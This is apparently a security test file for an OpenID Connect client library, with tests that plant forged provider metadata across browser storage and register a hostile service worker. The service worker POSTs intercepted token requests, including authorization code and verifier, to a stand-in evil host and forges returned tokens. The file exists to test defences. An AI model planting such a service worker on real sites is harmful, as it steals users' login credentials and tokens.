// ATTACKS G-19 and G-25: what else lives on the application's own origin. Caches are never read; a service worker sits
// between the vault and the network, and nothing but the provider's signature holds against it.

import assert from "node:assert/strict";
import { test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { attacks, expectSignedIn, realmName } from "../hostile/attack.mjs";
import { HOSTS, originOf, QUIET, useLab } from "../hostile/lab.mjs";
import { record } from "../hostile/record.mjs";
import { claim } from "../hostile/switches/tokens.mjs";

const lab = useLab();
const toEvil = (marker) => lab.network.log.filter(({ host, url }) => host === HOSTS.evil && url.includes(marker));

/** A service worker that reads every token request, and answers it as its own `?forge=` says. */
const SERVICE_WORKER = `
const forge = new URL(location).searchParams.get("forge");
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
const flipped = (text) => text.slice(0, -4) + (text.at(-4) === "A" ? "B" : "A") + text.slice(-3);
const FORGERIES = {
  "id-token": (tokens) => ({ ...tokens, id_token: flipped(tokens.id_token) }),
  "access-token": (tokens) => ({ ...tokens, access_token: "forged" }),
};
async function answer(request) {
  const seen = await request.clone().text();
  await fetch("${originOf(HOSTS.evil)}/g-25-" + forge, { method: "POST", body: seen });
  const tokens = await (await fetch(request)).json();
  return new Response(JSON.stringify(FORGERIES[forge](tokens)), { headers: { "content-type": "application/json" } });
}
addEventListener("fetch", (event) => {
  if (event.request.url.endsWith("/token")) event.respondWith(answer(event.request));
});`;

async function register(page, forge) {
  lab.handlers[HOSTS.app].files.set("/valetkey/service-worker.js", { body: SERVICE_WORKER });
  await page.evaluate(async (script) => {
    const { installing, waiting, active } = await navigator.serviceWorker.register(script);
    const worker = installing ?? waiting ?? active;
    if (worker.state !== "activated") await new Promise((resolve) => worker.addEventListener("statechange", () => worker.state === "activated" && resolve()));
  }, `/valetkey/service-worker.js?forge=${forge}`);
}

/** A page that may register one: the usual policy has no room for its script URL. */
const lax = { headers: { "content-security-policy": "frame-ancestors 'self'" } };

attacks("the application's own origin", () => {
  test("G-19 forged metadata and keys in every storage and cache of the origin: none is read", async (t) => {
    const { realm, application, canary } = lab.realm(realmName("G-19"));
    const page = await lab.page(await lab.context(t));
    await page.goto(`${originOf(HOSTS.app)}/valetkey/types.d.ts`);
    const evil = `${originOf(HOSTS.evil)}/g-19/`;
    const forged = { ...realm.honestMetadata, authorization_endpoint: `${evil}authorize`, token_endpoint: `${evil}token`, jwks_uri: `${evil}jwks`, userinfo_endpoint: `${evil}userinfo` };
    await page.evaluate(async ({ issuer, document }) => {
      const text = JSON.stringify(document);
      const url = `${issuer}.well-known/openid-configuration`;
      for (const key of ["valetkey", "metadata", `valetkey:metadata:${issuer}`, issuer, url, "valetkeyAhead"]) {
        localStorage.setItem(key, text);
        sessionStorage.setItem(key, text);
      }
      const cache = await caches.open("valetkey");
      await cache.put(url, new Response(text, { headers: { "content-type": "application/json" } }));
      await cache.put(`${issuer}jwks`, new Response('{"keys":[]}', { headers: { "content-type": "application/json" } }));
      await new Promise((resolve, reject) => {
        const request = indexedDB.open("valetkey", 1);
        request.onupgradeneeded = () => request.result.createObjectStore("transactions");
        request.onerror = reject;
        request.onsuccess = () => {
          const work = request.result.transaction("transactions", "readwrite");
          for (const key of ["metadata", issuer, url]) work.objectStore("transactions").put(text, key);
          work.oncomplete = () => { request.result.close(); resolve(); };
        };
      });
    }, { issuer: realm.issuer, document: forged });
    await expectSignedIn(lab, page, { realm, application, canary });
    await sleep(QUIET);
    assert.deepEqual(toEvil("g-19"), []);
  });

  for (const isolation of ["shared", "worker"]) {
    for (const [forge, code, setting] of [
      ["id-token", "signature_invalid", {}],
      ["access-token", "access_token_hash_mismatch", {}],
      ["access-token", undefined, { base: [claim("at_hash", undefined)] }],
    ]) {
      const where = `${isolation} vault${setting.base ? ", provider without at_hash" : ""}`;
      test(`G-25 a service worker forges the ${forge}, ${where}: ${code ?? "cannot be told"}`, async (t) => {
        const { realm, application } = lab.realm(realmName("G-25"), { ...lax, ...setting, options: { isolation } });
        const page = await lab.page(await lab.context(t));
        const before = toEvil("g-25").length;
        await lab.open(page, application);
        await register(page, forge);
        // The vault that runs already was started without it.
        const again = lab.realm(`${realm.name}-again`, { ...lax, options: { isolation, issuer: realm.issuer, scope: "openid" } });
        const report = await lab.attempt(page, again.application);
        assert.equal(report.error?.code, code, JSON.stringify(report));
        assert.equal(report.status, code ? "signed-out" : "signed-in");
        assert.ok(toEvil("g-25").length > before, "the service worker saw the request");
        if (!code) assert.equal(report.userInfo.error?.code, "user_info_status", "the provider does not know the forged token");
        if (isolation === "shared" && forge === "id-token") {
          const stolen = toEvil("g-25").at(-1).body;
          assert.match(stolen, /code=.*code_verifier=/u);
          record(t, "G-25", "a service worker of the application's origin sees what the vault sends, code, verifier and tokens, and may change what comes back: a forged ID token is refused, an access token that is not the ID token's too where the provider sends at_hash; without at_hash it cannot be told");
        }
        await page.evaluate(async () => { for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister(); });
        const honest = lab.realm(`${realm.name}-honest`, { ...lax, options: { isolation } });
        await expectSignedIn(lab, await lab.page(await lab.context(t)), honest);
      });
    }
  }
});
